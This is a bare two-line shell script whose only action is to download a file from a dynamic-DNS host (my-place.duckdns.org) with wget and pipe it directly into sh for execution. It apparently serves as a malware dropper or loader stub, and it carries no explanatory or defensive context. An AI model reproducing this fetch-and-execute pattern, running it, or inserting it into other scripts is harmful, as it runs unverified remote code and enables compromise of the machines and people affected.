#!/bin/sh
wget -O- http://my-place.duckdns.org/i | sh
